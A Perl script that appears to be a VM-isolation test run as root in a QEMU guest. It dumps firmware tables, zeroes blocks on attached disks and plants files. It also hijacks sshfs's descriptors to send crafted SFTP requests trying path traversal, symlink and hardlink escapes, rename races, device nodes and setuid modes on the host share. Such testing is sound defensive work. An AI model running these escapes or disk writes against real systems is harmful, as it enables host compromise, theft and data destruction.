# Run as root in the guest: tries to get out by what the machine was given (firmware, images, shared folders). Prints what it
# read, in hexadecimal, for the host to search, and a line `NAME reached` for each attempt that went through. The arguments are the
# mount point of a shared folder (or nothing) and a path of the host's beside it.
use strict;
use warnings;

my ($mounted, $beside) = @ARGV;
my $secret = "of the host";

sub reached { print "$_[0] reached\n" }
sub show { my ($name, $bytes) = @_; print "$name ", unpack("H*", $bytes), "\n" }
sub slurp { open(my $f, "<:raw", $_[0]) or return ""; local $/; my $all = <$f>; $all // "" }

# QEMU's fw_cfg (docs/specs/fw_cfg.rst), every file of it but the kernel, which the port gives a byte at a time.
system("modprobe qemu_fw_cfg") == 0 or die "no module for fw_cfg";
my @firmware = grep { slurp("$_/name") !~ m{^etc/boot/kernel} } glob("/sys/firmware/qemu_fw_cfg/by_key/*");
die "an empty fw_cfg" unless @firmware;
show("fw_cfg", join "", map { slurp("$_/name") . slurp("$_/raw") } @firmware);
show("smbios", join "", map { slurp($_) } glob("/sys/firmware/dmi/tables/* /sys/firmware/acpi/tables/* /proc/cmdline"));

for my $disk (glob("/sys/block/vd*")) {
	my ($name) = $disk =~ m{([^/]+)$};
	my $serial = slurp("$disk/serial");
	next unless $serial =~ /^vg-(root|guest|drivers|look)/;
	system("blockdev --setrw /dev/$name 2>/dev/null");
	system("dd if=/dev/zero of=/dev/$name bs=4096 count=1 seek=256 oflag=direct conv=notrunc,fsync 2>/dev/null") == 0 and reached("image");
}

if (open(my $planted, ">", "/home/ghost/planted")) { print $planted "planted\n"; close $planted; system("sync") }

exit 0 unless $mounted;

# The other end of the shared folder is the launcher's: its server is asked in sshfs's place, for what sshfs would never ask.
my ($from, $to);
my $id = 0x70000000;

sub take_over {
	my ($pid) = split " ", `pgrep -o -x sshfs`;
	die "no sshfs" unless $pid;
	kill STOP => $pid;
	my $pidfd = syscall(434, $pid + 0, 0);
	my @fds = map { syscall(438, $pidfd, $_, 0) } 0, 1;
	die "no descriptors: $!" if $pidfd < 0 || grep { $_ < 0 } @fds;
	open($from, "<&=", $fds[0]) or die;
	open($to, ">&=", $fds[1]) or die;
	return $pid;
}

sub text { pack("N/a*", $_[0]) }
sub packet { my ($type, @fields) = @_; text(pack("CN", $type, ++$id) . join "", @fields) }
sub put { my $all = join "", @_; my $at = 0; $at += syswrite($to, $all, length($all) - $at, $at) // die while $at < length $all }
sub get { my ($size) = @_; my $all = ""; while (length $all < $size) { sysread($from, $all, $size - length $all, length $all) or die "the share has ended" } $all }

# The answer to our last question; those that sshfs had open go past.
sub answer {
	my ($wanted) = @_;
	for (;;) {
		my ($type, $of, $body) = unpack("CNa*", get(unpack("N", get(4))));
		return ($type, $type == 101 ? unpack("N", $body) : $body) if $of == $wanted;
	}
}
sub ask { put(packet(@_)); return answer($id) }
sub done { my ($type, $status) = ask(@_); return $type != 101 || $status == 0 }

sub read_handle {
	my ($type, $body) = @_;
	return "" unless $type == 102;
	my ($kind, $data) = ask(5, $body, pack("Q>N", 0, 4096));
	ask(4, $body);
	return $kind == 103 ? unpack("N/a*", $data) : "";
}
sub read_file { read_handle(ask(3, text($_[0]), pack("NN", 1, 0))) }
sub plant {
	my ($type, $handle) = ask(3, text($_[0]), pack("NN", 2 | 8, 0));
	return 0 unless $type == 102;
	my $wrote = done(6, $handle, pack("Q>", 0), text("planted\n"));
	ask(4, $handle);
	return $wrote;
}
sub leads_out { return read_file($_[0]) =~ /$secret/ || plant($_[0]) }

# Before sshfs stops: by the guest's kernel.
system("mknod '$mounted/device' b 8 0 2>/dev/null") == 0 and reached("device");
system("ln '$mounted/file' '$mounted/hard' 2>/dev/null") == 0 and reached("hard link");
my $sshfs = take_over();

reached("read") if read_file("/file") =~ /mine/;
reached("write") if plant("/file");
for my $path ("/../outside/secret", "../outside/secret", "/sub/../../outside/secret", "//..//outside/secret", "$beside/secret") {
	reached("beside") if leads_out($path);
}
for my $path ("/absolute", "/relative/secret", "/relative/planted", "/turn/../relative/secret") { reached("link") if leads_out($path) }
reached("link") if (ask(11, text("/relative")))[0] == 102;

for my $link (["$beside/secret", "/l1"], ["../outside/secret", "/l2"], ["sub/../../outside/secret", "/l3"]) {
	reached("new link") if done(20, text($link->[0]), text($link->[1])) || read_file($link->[1]) =~ /$secret/;
}
# One that is inside where it is made, and would not be a folder further up.
done(14, text("/sub/deep"), pack("N", 0));
done(20, text("../../../outside/secret"), text("/sub/deep/l4")) and reached("new link");
done(20, text("../../file"), text("/sub/deep/l5"));
done(18, text("/sub/deep/l5"), text("/l5")) and reached("new link");
done(18, text("/sub/deep"), text("/deep")) and read_file("/deep/l5") =~ /$secret/ and reached("new link");

# A host that turns a folder into a link and back, and a guest that makes, moves and opens in one breath.
my $inside = 0;
my $end = time + 4;
while (time < $end) {
	my $content = read_file("/turn/secret");
	$inside++ if $content =~ /inside/;
	reached("race") if $content =~ /$secret/;
	plant("/turn/planted");
	put(packet(20, text("sub"), text("/own")), packet(13, text("/own")), packet(18, text("/relative"), text("/own")), packet(3, text("/own/secret"), pack("NN", 1, 0)));
	reached("race") if read_handle(answer($id)) =~ /$secret/;
	put(packet(18, text("/own"), text("/relative")), packet(13, text("/own")));
}
print "race-rounds $inside\n";

for my $pair (["/file", "/hard"], ["/relative/secret", "/hard2"], ["$beside/secret", "/hard3"]) {
	reached("hard link") if done(200, text('hardlink@openssh.com'), text($pair->[0]), text($pair->[1]));
}
for my $mode (0060644, 0020644, 0010644) {
	my ($type, $handle) = ask(3, text("/device2"), pack("NNN", 2 | 8, 4, $mode));
	ask(4, $handle) if $type == 102;
	done(9, text("/device2"), pack("NN", 4, $mode));
}
done(9, text("/file"), pack("NN", 4, $_)) for 04755, 02755;
kill CONT => $sshfs;
